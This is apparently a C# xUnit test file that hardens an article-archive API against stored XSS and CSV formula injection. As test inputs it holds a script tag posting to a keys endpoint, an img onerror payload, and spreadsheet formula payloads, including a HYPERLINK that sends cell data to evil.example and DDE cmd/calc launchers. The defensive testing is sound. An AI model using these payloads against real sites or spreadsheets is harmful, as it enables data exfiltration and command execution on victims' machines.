using System.Net;
using System.Text;
using Archive.Api.Extensions;
using Archive.Api.Tests.Infrastructure;

namespace Archive.Api.Tests.Hardening;

/// <summary>
/// What the archive serves must never run on its own origin or in a desk's spreadsheet, whatever a captured page holds:
/// raw captures are inert downloads, every response forbids sniffing, names are text, CSV cells are never formulas.
/// </summary>
public sealed class HostileOutputTests(ArchiveApiFactory factory) : IClassFixture<ArchiveApiFactory>
{
    private const string Script = "<script>fetch('/api/keys',{method:'POST'})</script>";
    private readonly HttpClient _client = factory.CreateClient();

    [Fact]
    public async Task A_raw_capture_is_served_as_an_inert_download_that_no_browser_runs()
    {
        var html = $"<html><head><title>Raw</title></head><body><article><p>{new string('x', 400)}</p>{Script}</article></body></html>";
        var article = await (await _client.PostJsonAsync("/api/captures", new { url = "https://xss.example/raw", html }))
            .ReadJsonAsync(HttpStatusCode.Created);

        var raw = await _client.GetAsync($"/api/captures/{article.GetProperty("capture").GetProperty("id").GetGuid()}/raw");

        Assert.Equal(HttpStatusCode.OK, raw.StatusCode);
        Assert.Equal("application/octet-stream", raw.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", raw.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", raw.Headers.GetValues("X-Content-Type-Options").Single());
        var policy = raw.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("sandbox", policy, StringComparison.Ordinal);
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Equal("text/html; charset=utf-8", raw.Headers.GetValues("X-Archive-Content-Type").Single());
        Assert.Equal(Encoding.UTF8.GetBytes(html), await raw.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("/health")]
    [InlineData("/openapi/v1.json")]
    [InlineData("/api/publishers")]
    [InlineData("/api/articles/0193a4f0-0000-7000-8000-000000000000")]
    [InlineData("/api/captures/not-a-guid")]
    [InlineData("/api/publishers?page=0")]
    [InlineData("/no/such/route")]
    [InlineData("/docs")]
    [InlineData("/")]
    public async Task Every_response_forbids_sniffing_and_carries_a_policy(string path)
    {
        var response = await _client.GetAsync(path);

        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.NotEmpty(response.Headers.GetValues("Content-Security-Policy").Single());
    }

    [Fact]
    public async Task The_api_documentation_has_a_policy_of_its_own()
    {
        var response = await _client.GetAsync("/docs");

        Assert.Equal(SecurityHeaders.DocsPolicy, response.Headers.GetValues("Content-Security-Policy").Single());
    }

    [Fact]
    public async Task A_publisher_named_with_markup_is_stored_and_served_as_text()
    {
        const string name = "Evil <img src=x onerror=alert(document.domain)>";
        var html = $"<html><head><meta property=\"og:site_name\" content=\"{WebUtility.HtmlEncode(name)}\"><title>Named</title></head>" +
            $"<body><article><h1>Named</h1><p>{new string('y', 500)}</p></article></body></html>";
        var article = await (await _client.PostJsonAsync("/api/captures", new { url = "https://named.example/story", html }))
            .ReadJsonAsync(HttpStatusCode.Created);
        var publisherId = article.GetProperty("publisher").GetProperty("id").GetGuid();

        var json = await (await _client.GetAsync($"/api/articles/{article.GetProperty("id").GetGuid()}")).ReadJsonAsync(HttpStatusCode.OK);
        var page = await _client.GetStringAsync($"/publishers/{publisherId}");

        Assert.Equal(name, json.GetProperty("publisher").GetProperty("name").GetString());
        Assert.DoesNotContain("<img src=x", page, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;img src=x", page, StringComparison.Ordinal);
    }
}

public sealed class CsvCellTests
{
    public static TheoryData<string> Formulas => new()
    {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|calc!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "  =1+1", "\u00a0=1", "＝1+1", "＋cmd|calc!A0", "=cmd|' /C notepad'!'A1'", "@import", "-1",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_cell_a_spreadsheet_would_run_is_neutralised(string value)
    {
        var cell = CsvCells.Field(value);

        // Quoted or not, the cell's text (what a spreadsheet reads) starts with an apostrophe.
        var text = cell.StartsWith('"') ? cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : cell;
        Assert.StartsWith("'", text, StringComparison.Ordinal);
        Assert.Equal(value, text[1..]);
    }

    [Theory]
    [InlineData("The Daily Example", "The Daily Example")]
    [InlineData("Smith, Jones & Co", "\"Smith, Jones & Co\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("https://example.com/a=b", "https://example.com/a=b")]
    [InlineData("", "")]
    public void Ordinary_cells_follow_rfc_4180(string value, string expected) => Assert.Equal(expected, CsvCells.Field(value));
}
